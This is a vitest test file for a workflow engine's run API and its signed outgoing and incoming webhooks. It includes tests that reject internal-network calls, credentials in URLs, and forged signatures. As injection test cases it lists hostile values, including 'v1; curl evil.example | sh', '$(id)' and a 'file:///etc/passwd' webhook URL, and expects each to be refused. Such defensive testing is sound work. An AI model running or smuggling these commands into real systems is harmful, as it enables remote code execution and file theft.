import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Webhook } from 'standardwebhooks';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { openWebhooks } from '../../../src/app/webhooks.ts';
import { Policy } from '../../../src/core/policy.ts';
import { defineWorkflow } from '../../../src/core/workflow.ts';
import { type ApiForTest, startApi } from '../../support/api.ts';
import { startClient } from '../../support/client.ts';
import { startEngine } from '../../support/engine.ts';
import { gatedWork } from '../../support/gated.ts';
import { until } from '../../support/until.ts';

const SECRET = `whsec_${Buffer.from('a secret of at least 24 bytes').toString('base64')}`;
const work = gatedWork();
const counts = defineWorkflow({
  name: 'counts',
  description: 'Counts.',
  input: z.strictObject({ from: z.number().int(), to: z.number().int() }),
  withTimeout: (input, typed) => (typed === '20m' ? { ...(input as object), to: 9 } : undefined),
  summary: ({ from, to }) => `count from ${from} to ${to}`,
  run: async (_, { from, to }) => ({ text: `${from}..${to}` }),
});

const deploys = defineWorkflow({
  name: 'deploys',
  description: 'Runs a command.',
  dangerous: true,
  input: z.object({ request: z.string() }),
  run: async (_, { request }) => ({ text: request }),
});

const received: { url: string; headers: Record<string, string>; body: string }[] = [];
let answers: number[] = [];
const receiver = createServer((request, response) => {
  let body = '';
  request.on('data', (part) => (body += String(part)));
  request.on('end', () => {
    received.push({ url: request.url ?? '', headers: request.headers as Record<string, string>, body });
    response.writeHead(answers.shift() ?? 204, { 'retry-after': '1' }).end();
  });
});

let client: Awaited<ReturnType<typeof startClient>>;
let engine: Awaited<ReturnType<typeof startEngine>>;
let api: ApiForTest;
let hooks: ReturnType<typeof openWebhooks>;
let receiving = '';

const incoming = {
  build: { workflow: 'work', secret: 'BUILD_SECRET', request: 'look at {build.name} ({build.number})' },
  plain: { workflow: 'counts', secret: 'BUILD_SECRET' },
  deploy: { workflow: 'deploys', secret: 'BUILD_SECRET', request: 'deploy {tag}' },
};

beforeAll(async () => {
  await new Promise<void>((resolve) => void receiver.listen(0, '127.0.0.1', resolve));
  receiving = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
  client = await startClient();
  const policy = Policy.parse({});
  hooks = openWebhooks({
    policy: () => policy,
    run: (id) => engine.queries.runs.get(id),
    secret: SECRET,
    mayReach: (address) => address === '127.0.0.1',
  });
  engine = await startEngine({
    redis: client.server,
    workflows: [work.workflow, counts, deploys],
    policy: { rules: [{ allow: true, workflows: ['deploys'] }] },
    platforms: { hook: hooks.platform },
  });
  api = await startApi(engine, {
    incoming: {
      hooks: () => incoming,
      secret: (name) => (name === 'BUILD_SECRET' ? SECRET : undefined),
      isDangerous: (name) => name === 'deploys',
    },
  });
});
afterAll(async () => {
  await api.close();
  await engine.close();
  await hooks.close();
  await client.stop();
  receiver.close();
});

type Shown = { id: string; status: string } & Record<string, unknown>;
const runOf = (body: Record<string, unknown>) => body['run'] as Shown;

describe('a run ordered with structured input', () => {
  test('gets it as its schema reads it, and is named after what it does', async () => {
    const made = await api.post('/api/runs', { workflow: 'counts', input: { from: 1, to: 3 } });
    expect([made.status, runOf(made.body)['request']]).toEqual([201, 'count from 1 to 3']);
    const { id } = runOf(made.body);
    await until(async () => (await engine.queries.runs.get(id))?.status === 'completed', 'the end');
    expect((await engine.queries.runs.get(id))?.result?.text).toBe('1..3');
  });

  test.each([
    [{ workflow: 'counts', input: { from: 1 } }, 'to'],
    [{ workflow: 'counts', input: { from: 1, to: 2, more: 3 } }, 'more'],
    [{ input: { from: 1, to: 2 } }, 'workflow'],
    [{ workflow: 'counts' }, 'request'],
    [{ workflow: 'counts', input: { from: 1, to: 2 }, timeout: '3 moons' }, 'timeout'],
    [{ workflow: 'counts', input: { text: 'x'.repeat(21_000) } }, 'input'],
  ])('is refused where it does not fit (%#)', async (body, named) => {
    const answer = await api.post('/api/runs', body);
    expect([answer.status, JSON.stringify(answer.body)]).toEqual([400, expect.stringContaining(named)]);
  });

  test('has the time limit that is given', async () => {
    const made = await api.post('/api/runs', { workflow: 'counts', input: { from: 1, to: 2 }, timeout: '20m' });
    expect(runOf(made.body)['request']).toBe('count from 1 to 9');
  });
});

describe('the webhook of a run', () => {
  test('is told of its end once, signed so that the standard library accepts it, and again until it is taken', async () => {
    answers = [503, 204];
    const webhook = { url: `${receiving}/told` };
    const { id } = runOf((await api.post('/api/runs', { workflow: 'work', request: 'hook', webhook })).body);
    await work.begun('hook');
    expect(received).toEqual([]);
    work.finish('hook');
    await until(() => received.length === 2, 'both tries');
    const [first, second] = received;
    expect(second?.headers['webhook-id']).toBe(first?.headers['webhook-id']);
    const said = new Webhook(SECRET).verify(second?.body ?? '', second?.headers ?? {});
    expect(said).toMatchObject({ type: 'run.completed', data: { run: { id, status: 'completed' } } });
    expect(() => new Webhook(SECRET).verify(`${second?.body} `, second?.headers ?? {})).toThrow('signature');
    await until(async () => (await client.redis.keys('mw:box:outbox:hook:*')).length === 0, 'an empty outbox');
    expect(received).toHaveLength(2);
  });

  test('is told of a run that is canceled before it starts', async () => {
    received.length = 0;
    const webhook = { url: `${receiving}/canceled` };
    const made = [];
    for (const request of ['b1', 'b2', 'b3', 'b4'])
      made.push(runOf((await api.post('/api/runs', { workflow: 'work', request, webhook })).body));
    await work.begun('b3');
    await api.post(`/api/runs/${made[3]?.id}/cancel`, {});
    await until(() => received.length === 1, 'the word');
    expect(JSON.parse(received[0]?.body ?? '')).toMatchObject({ type: 'run.canceled' });
    for (const request of ['b1', 'b2', 'b3']) work.finish(request);
    await until(() => received.length === 4, 'the words of the others');
    await until(async () => (await client.redis.keys('mw:box:outbox:hook:*')).length === 0, 'an empty outbox');
  });

  test('is not followed elsewhere, and an address inside the network is not called', async () => {
    received.length = 0;
    const policy = Policy.parse({});
    const closed = openWebhooks({ policy: () => policy, run: (id) => engine.queries.runs.get(id), secret: SECRET });
    const [run] = (await api.get('/api/runs?status=completed&workflow=work')).body['runs'] as Shown[];
    const post = { kind: 'notice' as const, text: '', buttons: [], files: [], run: String(run?.id) };
    const place = { workspace: 'w', channel: 'hook:x', thread: 'hook:x/1' };
    await expect(closed.platform.post(place, post, 'k')).rejects.toMatchObject({
      retry: false,
      message: expect.stringContaining('internalHosts'),
    });
    expect(received).toEqual([]);
    answers = [302];
    await expect(hooks.platform.post(place, post, 'k')).rejects.toMatchObject({ retry: false });
    expect(received).toHaveLength(1);
    await closed.close();
  });

  test('is refused where nothing can be signed, and for a schedule', async () => {
    const order = { workflow: 'work', request: 'x', webhook: { url: receiving } };
    const off = await startApi(engine, { hooksOff: 'Set WEBHOOK_SECRET.' });
    expect((await off.post('/api/runs', order)).status).toBe(400);
    await off.close();
    expect((await api.post('/api/runs', { ...order, every: 'day at 9' })).status).toBe(400);
    expect((await api.post('/api/runs', { ...order, webhook: { url: 'file:///etc/passwd' } })).status).toBe(400);
    const named = await api.post('/api/runs', { ...order, webhook: { url: 'https://ana:hush@hooks.example/1' } });
    expect([named.status, JSON.stringify(named.body)]).toEqual([400, expect.stringContaining('no name and password')]);
    expect(JSON.stringify(named.body)).not.toContain('hush');
  });
});

describe('an incoming webhook', () => {
  const signed = (id: string, body: string, at = new Date()) => ({
    'webhook-id': id,
    'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
    'webhook-signature': new Webhook(SECRET).sign(id, at, body),
  });
  const send = (name: string, body: string, headers: Record<string, string>) =>
    api.post(`/api/hooks/${name}`, body, headers);

  test("starts the policy's workflow once for its id, with what the body holds as words alone", async () => {
    const body = JSON.stringify({ build: { name: '--priority high "web', number: 7 } });
    const first = await send('build', body, signed('msg_1', body));
    expect([first.status, runOf(first.body)]).toMatchObject([
      201,
      {
        workflow: 'work',
        priority: 'normal',
        request: 'look at --priority high ″web (7)',
        person: { id: 'hook:build' },
      },
    ]);
    const again = await send('build', body, signed('msg_1', body));
    expect(runOf(again.body).id).toBe(runOf(first.body).id);
    await api.post(`/api/runs/${runOf(first.body).id}/cancel`, {});
  });

  test.each([
    ['v2.4.1', 201],
    ['release/2029-05@eu', 201],
    ['v1; curl evil.example | sh', 422],
    ['$(id)', 422],
    ['`id`', 422],
    ['v1\nid', 422],
    ['--force', 422],
    ['', 422],
  ])('puts %j into a command only where it is one word', async (tag, status) => {
    const body = JSON.stringify({ tag });
    const answer = await send('deploy', body, signed(`msg_tag_${Buffer.from(tag).toString('hex')}`, body));
    expect(answer.status).toBe(status);
    expect(JSON.stringify(answer.body)).toContain(status === 201 ? `deploy ${tag}` : 'must be one word');
  });

  test('names its own header where its id is no key, tells long ids apart, and refuses an id that came with another body', async () => {
    const body = JSON.stringify({ input: { from: 1, to: 2 } });
    const bad = await send('plain', body, signed('msg 6', body));
    expect([bad.status, JSON.stringify(bad.body)]).toEqual([400, expect.stringContaining('webhook-id takes')]);
    const long = 'm'.repeat(99);
    const ids = ['1', '2'].map((end) => `${long}${end}`);
    const sent = await Promise.all(ids.map((id) => send('plain', body, signed(id, body))));
    expect(new Set(sent.map((one) => runOf(one.body).id)).size).toBe(2);
    const other = JSON.stringify({ input: { from: 1, to: 3 } });
    expect((await send('plain', other, signed(`${long}1`, other))).status).toBe(422);
  });

  test('takes a request or structured input where the policy sets none', async () => {
    const body = JSON.stringify({ input: { from: 2, to: 4 } });
    expect((await send('plain', body, signed('msg_2', body))).status).toBe(201);
    const wrong = JSON.stringify({ workflow: 'work', request: 'x' });
    expect((await send('plain', wrong, signed('msg_3', wrong))).status).toBe(400);
  });

  test('starts nothing with a wrong signature, an old time, another body, or no known name', async () => {
    const body = JSON.stringify({ build: {} });
    const before = (await api.get('/api/runs?limit=100')).body['runs'] as Shown[];
    const hour = 3_600_000;
    const late = new Date(Date.now() - hour);
    const cases: [string, string, Record<string, string>, number][] = [
      ['build', body, {}, 401],
      ['build', body, { ...signed('msg_4', body), 'webhook-signature': 'v1,AAAA' }, 401],
      ['build', body, signed('msg_4', body, late), 401],
      ['build', `${body} `, signed('msg_4', body), 401],
      ['build', body, { ...signed('msg_4', body), 'webhook-id': 'msg_5' }, 401],
      ['other', body, signed('msg_4', body), 404],
      ['constructor', body, signed('msg_4', body), 404],
      ['build', '{', signed('msg_4', '{'), 400],
    ];
    for (const [name, text, headers, status] of cases) expect((await send(name, text, headers)).status).toBe(status);
    const after = (await api.get('/api/runs?limit=100')).body['runs'] as Shown[];
    expect(after.map(({ id }) => id)).toEqual(before.map(({ id }) => id));
  });
});
